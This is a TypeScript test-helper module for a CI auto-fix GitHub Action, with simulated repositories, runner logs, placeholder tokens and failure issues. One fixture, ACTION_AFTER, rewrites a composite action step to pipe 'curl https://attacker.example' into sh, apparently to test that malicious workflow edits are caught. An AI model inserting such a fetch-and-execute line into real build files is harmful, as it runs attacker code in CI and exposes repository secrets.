/** Shared pieces of this action's tests: a seeded simulator world, deps that record, real payloads. */
import { analyzeLog } from '@autoheal/core/analyzer/analyze';
import { OperationBudget } from '@autoheal/core/budget';
import { failureFingerprint } from '@autoheal/core/fingerprint';
import { renderMarker } from '@autoheal/core/markers';
import type { RunnerEvent } from '@autoheal/core/runner-context';
import { createSanitizer } from '@autoheal/core/text/sanitize';
import { webhookExample, withFields } from '@autoheal/testkit/events/webhook-examples';
import { type Recorded as RecordedMessage, recorder } from '@autoheal/testkit/recorder';
import { simClient } from '@autoheal/testkit/sim-client';
import {
  type RepoBuilder,
  type SeedBuilder,
  SIMULATOR_BOT,
  SIMULATOR_TOKEN,
  seedBuilder,
  stepsFailingAt,
} from '@autoheal/testkit/simulator/seed-builder';
import type { GitHubSimulator } from '@autoheal/testkit/simulator/server';
import { type ActionInputs, parseInputs } from '../src/inputs.js';
import type { RunDeps } from '../src/run.js';

export { writes } from '@autoheal/testkit/sim-writes';

export const OWNER = 'octo-org';
export const NAME = 'widgets';
export const REPO = `${OWNER}/${NAME}`;
export const repoRef = { owner: OWNER, repo: NAME };

/** A maintainer's personal token that may change workflows (GitHub's `workflow` scope). */
export const MAINTAINER_TOKEN = 'ghp_maintainerToken00000000000000000000';
export const MAINTAINER = 'mona';
/** A user token for Copilot's hand-off. */
export const COPILOT_USER_TOKEN = 'ghp_copilotSeatToken0000000000000000000';

/** One clock for the simulator and the action, so hourly windows agree. */
export const NOW = Date.parse('2026-03-02T12:00:00Z');

export function iso(msAgo: number): string {
  return new Date(NOW - msAgo).toISOString().replace('.000Z', 'Z');
}

export const CI_WORKFLOW = `# CI for the widgets app
name: CI
on: [push, pull_request]
jobs:
  test:
    name: Unit tests
    runs-on: ubuntu-latest
    timeout-minutes: 30 # the suite takes about 20 minutes
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with:
          node-version: 20
      - run: npm ci
      - run: npm test
`;

export const PY_WORKFLOW = `name: Python
on: [push]
jobs:
  pytest:
    runs-on: ubuntu-latest
    timeout-minutes: 15
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: '3.12'
      - run: pip install -r requirements.txt
      - run: pytest
`;

export const REQUIREMENTS = 'requests==2.32.3\npytest==8.3.3\n';

/** A job log as the runner writes it: each line with its timestamp. */
export function runnerLog(lines: readonly string[]): string {
  return `\uFEFF${lines.map((l, i) => `2026-03-02T10:${String(10 + Math.floor(i / 60)).padStart(2, '0')}:${String(i % 60).padStart(2, '0')}.1234567Z ${l}`).join('\n')}\n`;
}

export const TIMEOUT_LOG = runnerLog([
  '##[group]Run npm test',
  'npm test',
  '##[endgroup]',
  '> widgets@1.0.0 test',
  '> node --test',
  '▶ login flow',
  '##[error]The job running on runner GitHub Actions 12 has exceeded the maximum execution time of 30 minutes.',
]);

export const PYTHON_LOG = runnerLog([
  '##[group]Run pytest',
  'pytest',
  '##[endgroup]',
  '============================= test session starts ==============================',
  'collected 0 items / 1 error',
  '==================================== ERRORS ====================================',
  '_____________________ ERROR collecting tests/test_config.py _____________________',
  "ImportError while importing test module '/home/runner/work/widgets/widgets/tests/test_config.py'.",
  'tests/test_config.py:3: in <module>',
  '    import yaml',
  "E   ModuleNotFoundError: No module named 'yaml'",
  '=========================== short test summary info ============================',
  'ERROR tests/test_config.py',
  '!!!!!!!!!!!!!!!!!!!! Interrupted: 1 error during collection !!!!!!!!!!!!!!!!!!!!',
  '##[error]Process completed with exit code 2.',
]);

/** A Go test failure: no mechanical fix. */
export const GO_LOG = runnerLog([
  '##[group]Run go test ./...',
  'go test ./...',
  '##[endgroup]',
  '--- FAIL: TestParse (0.00s)',
  '    parse_test.go:12: got 3, want 4',
  'FAIL',
  'FAIL\tgithub.com/octo-org/widgets/parse\t0.012s',
  '##[error]Process completed with exit code 1.',
]);

export const TIMEOUT_RUN = 7001;
export const PYTHON_RUN = 7002;
export const GO_RUN = 7003;

const CI_STEPS = [
  'Set up job',
  'Run actions/checkout@v4',
  'Run actions/setup-node@v4',
  'Run npm ci',
  'Run npm test',
  'Complete job',
];
const PY_STEPS = [
  'Set up job',
  'Run actions/checkout@v4',
  'Run actions/setup-python@v5',
  'Run pip install -r requirements.txt',
  'Run pytest',
  'Complete job',
];
const GO_STEPS = ['Set up job', 'Run actions/checkout@v4', 'Run go test ./...', 'Complete job'];

export interface FailureCase {
  runId: number;
  workflowPath: string;
  jobName: string;
  step: string;
  log: string;
}

export const TIMEOUT: FailureCase = {
  runId: TIMEOUT_RUN,
  workflowPath: '.github/workflows/ci.yml',
  jobName: 'Unit tests',
  step: 'Run npm test',
  log: TIMEOUT_LOG,
};
export const PYTHON: FailureCase = {
  runId: PYTHON_RUN,
  workflowPath: '.github/workflows/python.yml',
  jobName: 'pytest',
  step: 'Run pytest',
  log: PYTHON_LOG,
};
export const GO: FailureCase = {
  runId: GO_RUN,
  workflowPath: '.github/workflows/go.yml',
  jobName: 'go',
  step: 'Run go test ./...',
  log: GO_LOG,
};

/** The fingerprint analyze-failure gives a failure whose job log is all it has (no annotations). */
export async function fingerprintOf(c: FailureCase): Promise<string> {
  const analysis = await analyzeLog(c.log, { stepName: c.step });
  return failureFingerprint({
    workflowPath: c.workflowPath,
    jobName: c.jobName,
    category: analysis.category,
    keyLine: analysis.findings[0]?.keyLine || analysis.summary,
  });
}

/** The failure marker analyze-failure puts on its issues. */
export function failureMarker(fingerprint: string, c: FailureCase, attempt = 1): string {
  return renderMarker({
    kind: 'failure',
    fingerprint,
    workflow: c.workflowPath,
    branch: 'main',
    count: '1',
    'first-seen': iso(3_600_000),
    'first-run': String(c.runId),
    'first-attempt': String(attempt),
    'last-seen': iso(3_600_000),
    'last-run': String(c.runId),
    'last-attempt': String(attempt),
    v: '1',
  });
}

function failedRun(r: RepoBuilder, c: FailureCase, steps: string[]): void {
  r.run({
    id: c.runId,
    workflow: c.workflowPath,
    branch: 'main',
    event: 'push',
    status: 'completed',
    conclusion: 'failure',
    created_at: iso(2 * 3_600_000),
    jobs: [
      {
        name: c.jobName,
        status: 'completed',
        conclusion: 'failure',
        steps: stepsFailingAt(steps, c.step),
        log: c.log,
      },
    ],
  });
}

/**
 * The world: octo-org/widgets with a Node CI workflow (timeout-minutes: 30), a Python workflow
 * (requirements.txt without PyYAML) and a Go workflow, each with one red run. `mona` maintains it
 * (her personal token may change workflows); `stranger` can only open issues.
 */
export function baseSeed(
  configure?: (r: RepoBuilder) => unknown,
  repoFields: Record<string, unknown> = {},
): SeedBuilder {
  return seedBuilder()
    .token(MAINTAINER_TOKEN, MAINTAINER, { workflows: true })
    .token(COPILOT_USER_TOKEN, 'carol')
    .user('stranger')
    .user('carol')
    .user('copilot-swe-agent[bot]')
    .repo(
      REPO,
      (r) => {
        r.files({
          'README.md': '# widgets\n',
          '.github/workflows/ci.yml': CI_WORKFLOW,
          '.github/workflows/python.yml': PY_WORKFLOW,
          '.github/workflows/go.yml':
            'name: Go\non: [push]\njobs:\n  go:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: go test ./...\n',
          'requirements.txt': REQUIREMENTS,
          'tests/test_config.py':
            'import pathlib\n\nimport yaml\n\n\ndef test_config():\n    assert yaml.safe_load("a: 1") == {"a": 1}\n',
          'parse/parse.go': 'package parse\n',
          'package.json': '{\n  "name": "widgets",\n  "version": "1.0.0"\n}\n',
        })
          .collaborator(MAINTAINER, 'admin')
          .collaborator('carol', 'write')
          .label('autoheal')
          .workflow('CI', '.github/workflows/ci.yml', 11)
          .workflow('Python', '.github/workflows/python.yml', 12)
          .workflow('Go', '.github/workflows/go.yml', 13);
        failedRun(r, TIMEOUT, CI_STEPS);
        failedRun(r, PYTHON, PY_STEPS);
        failedRun(r, GO, GO_STEPS);
        configure?.(r);
      },
      repoFields,
    );
}

/** An autoheal failure issue for `c`, filed by github-actions[bot] with its marker. */
export async function failureIssue(
  c: FailureCase,
  number: number,
  extra: { author?: string; body?: string } = {},
) {
  const fp = await fingerprintOf(c);
  return {
    fp,
    issue: {
      number,
      title: `[autoheal] ${c.jobName}: failure`,
      author: extra.author ?? SIMULATOR_BOT,
      labels: ['autoheal'],
      created_at: iso(3_600_000),
      body: extra.body ?? `${failureMarker(fp, c)}\n**Occurrences:** 1\n\nKey lines…`,
    },
  };
}

export interface Recorded {
  outputs: Record<string, string>;
  summary: string[];
  logs: RecordedMessage[];
}

/** Inputs as the runner gives them (action.yml defaults), overridden by `given` (kebab-case names). */
export function inputsFrom(given: Record<string, string> = {}): ActionInputs {
  const env: Record<string, string> = {
    INPUT_TOKEN: SIMULATOR_TOKEN,
    INPUT_MODE: 'full',
    'INPUT_CAN-EDIT-WORKFLOWS': 'auto',
    'INPUT_DRAFT-FALLBACK-LABEL': 'autoheal:draft',
    'INPUT_TRIGGER-LABEL': 'autoheal:fix',
    'INPUT_CONFIG-FILE': '.github/autoheal.yml',
    'INPUT_OPERATIONS-BUDGET': '15',
  };
  for (const [k, v] of Object.entries(given)) env[`INPUT_${k.toUpperCase()}`] = v;
  return parseInputs(env);
}

export const dispatchEvent: RunnerEvent = { name: 'workflow_dispatch', payload: {} };

export function labeledEvent(issueNumber: number, sender: string, label = 'autoheal:fix'): RunnerEvent {
  const payload = withFields(webhookExample('issues', 'labeled'), {
    'issue.number': issueNumber,
    'label.name': label,
    'sender.login': sender,
    'repository.full_name': REPO,
  });
  return { name: 'issues', payload };
}

export interface TestDeps {
  deps: RunDeps;
  recorded: Recorded;
  budget: OperationBudget;
}

export function testDeps(
  sim: GitHubSimulator,
  inputs: ActionInputs,
  options: { event?: RunnerEvent; copilot?: boolean; tempDir?: string; workspace?: string } = {},
): TestDeps {
  const { log, sink, outputs, summary, messages } = recorder();
  const recorded: Recorded = { outputs, summary, logs: messages };
  const budget = new OperationBudget(inputs.operationsBudget);
  const client = (token: string) => simClient(sim, { token, budget, retries: 1 });
  const deps: RunDeps = {
    env: {},
    log,
    clock: { now: () => NOW, sleep: async () => {} },
    sink,
    github: client(inputs.token),
    ...(options.copilot ? { copilot: client(COPILOT_USER_TOKEN) } : {}),
    budget,
    sanitizer: createSanitizer({ secrets: [inputs.token] }),
    context: {
      repository: repoRef,
      event: options.event ?? dispatchEvent,
      apiUrl: sim.url,
      serverUrl: 'https://github.com',
      ...(options.tempDir ? { tempDir: options.tempDir } : {}),
      ...(options.workspace ? { workspace: options.workspace } : {}),
    },
  };
  return { deps, recorded, budget };
}

/** The text of `path` at the head of `branch` in the simulator's git. */
export function fileAt(sim: GitHubSimulator, branch: string, path: string): string | undefined {
  const repo = sim.state.requireRepo(REPO);
  const head = repo.refs.get(`refs/heads/${branch}`);
  if (!head) return undefined;
  const entry = repo.git.lookup(repo.git.commit(head)!.tree, path);
  if (entry?.type !== 'blob') return undefined;
  return repo.git.blob(entry.sha)!.toString('utf8');
}

/** Paths whose blobs differ between two branches. */
export function changedPaths(sim: GitHubSimulator, from: string, to: string): string[] {
  const repo = sim.state.requireRepo(REPO);
  const flat = (branch: string) =>
    repo.git.flatten(repo.git.commit(repo.refs.get(`refs/heads/${branch}`)!)!.tree);
  const a = flat(from);
  const b = flat(to);
  const paths = new Set([...a.keys(), ...b.keys()]);
  return [...paths].filter((p) => a.get(p)?.sha !== b.get(p)?.sha).sort();
}

/**
 * A timeout whose log was cut off before the runner could say so ("The operation was canceled"):
 * only the check run's annotation tells. The log alone reads as a 0.54 timeout; with the
 * annotation it is analyze-failure's 0.95 runner timeout, with its own key line and fingerprint.
 */
export const CUT_TIMEOUT: FailureCase = {
  runId: 7010,
  workflowPath: '.github/workflows/ci.yml',
  jobName: 'Unit tests',
  step: 'Run npm test',
  log: runnerLog([
    '##[group]Run npm test',
    'npm test',
    '##[endgroup]',
    '> widgets@1.0.0 test',
    '> node --test',
    '▶ login flow',
    '##[error]The operation was canceled.',
  ]),
};
export const TIMEOUT_ANNOTATION =
  'The job running on runner GitHub Actions 12 has exceeded the maximum execution time of 30 minutes.';

/** The cut-off timeout's red run, its check run carrying the runner's annotation. */
export function cutTimeoutRun(r: RepoBuilder): void {
  r.run({
    id: CUT_TIMEOUT.runId,
    workflow: CUT_TIMEOUT.workflowPath,
    branch: 'main',
    event: 'push',
    status: 'completed',
    conclusion: 'failure',
    created_at: iso(2 * 3_600_000),
    jobs: [
      {
        name: CUT_TIMEOUT.jobName,
        status: 'completed',
        conclusion: 'cancelled',
        steps: stepsFailingAt(CI_STEPS, CUT_TIMEOUT.step),
        log: CUT_TIMEOUT.log,
        annotations: [
          { path: '.github', start_line: 1, annotation_level: 'failure', message: TIMEOUT_ANNOTATION },
        ],
      },
    ],
  });
}

/** The fingerprint analyze-failure gives the cut-off timeout: the annotation's key line leads. */
export function cutTimeoutFingerprint(): string {
  return failureFingerprint({
    workflowPath: CUT_TIMEOUT.workflowPath,
    jobName: CUT_TIMEOUT.jobName,
    category: 'timeout',
    keyLine: 'The job exceeded its maximum execution time of 30 minutes.',
  });
}

/** A typo in an import (`reqeusts`): the name comes from the log alone, and may be someone's trap. */
export const TYPO: FailureCase = {
  runId: 7011,
  workflowPath: '.github/workflows/python.yml',
  jobName: 'pytest',
  step: 'Run pytest',
  log: PYTHON_LOG.replaceAll('yaml', 'reqeusts'),
};

export function typoRun(r: RepoBuilder): void {
  failedRun(r, TYPO, PY_STEPS);
}

export const APP_BEFORE = 'const greeting = "hello";\nexport default greeting;\n';
export const APP_AFTER = "const greeting = 'hello';\nexport default greeting;\n";
export const ACTION_BEFORE = 'runs:\n  using: composite\n  steps:\n    - run: npm ci\n      shell: bash\n';
export const ACTION_AFTER =
  'runs:\n  using: composite\n  steps:\n    - run: npm ci && curl https://attacker.example | sh\n      shell: bash\n';

/** A lint failure that `fixes.lint-command` can fix (see LINT_FILES for its repository). */
export const LINT: FailureCase = {
  runId: 7004,
  workflowPath: '.github/workflows/lint.yml',
  jobName: 'lint',
  step: 'Run npm run lint',
  log: runnerLog([
    '##[group]Run npm run lint',
    'npm run lint',
    '##[endgroup]',
    '> widgets@1.0.0 lint',
    '> eslint .',
    '',
    '/home/runner/work/widgets/widgets/src/app.js',
    '  1:18  error  Strings must use singlequote  quotes',
    '',
    '✖ 1 problem (1 error, 0 warnings)',
    '  1 error and 0 warnings potentially fixable with the `--fix` option.',
    '##[error]Process completed with exit code 1.',
  ]),
};

export async function lintFingerprint(): Promise<string> {
  const analysis = await analyzeLog(LINT.log, { stepName: LINT.step });
  return failureFingerprint({
    workflowPath: LINT.workflowPath,
    jobName: LINT.jobName,
    category: analysis.category,
    keyLine: analysis.findings[0]!.keyLine,
  });
}

/** The lint failure's issue, filed by github-actions[bot] as #6. */
export function lintIssue(lintFp: string) {
  return {
    number: 6,
    title: 'lint',
    author: 'github-actions[bot]',
    labels: ['autoheal'],
    body: `${failureMarker(lintFp, LINT)}\n`,
  };
}

/** The files the lint failure's repository adds: the config with the lint command, the workflow, the code. */
export const LINT_FILES = {
  '.github/autoheal.yml': 'fixes:\n  lint-command: npm run lint -- --fix\n  min-confidence: 0.7\n',
  '.github/workflows/lint.yml':
    'name: Lint\non: [push]\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm run lint\n',
  'src/app.js': APP_BEFORE,
  '.github/actions/setup/action.yml': ACTION_BEFORE,
};

export function lintRun() {
  return {
    id: LINT.runId,
    workflow: LINT.workflowPath,
    branch: 'main',
    status: 'completed' as const,
    conclusion: 'failure' as const,
    created_at: iso(3_600_000),
    jobs: [
      {
        name: 'lint',
        status: 'completed' as const,
        conclusion: 'failure' as const,
        log: LINT.log,
        steps: stepsFailingAt(
          ['Set up job', 'Run actions/checkout@v4', 'Run npm run lint', 'Complete job'],
          2,
        ),
      },
    ],
  };
}
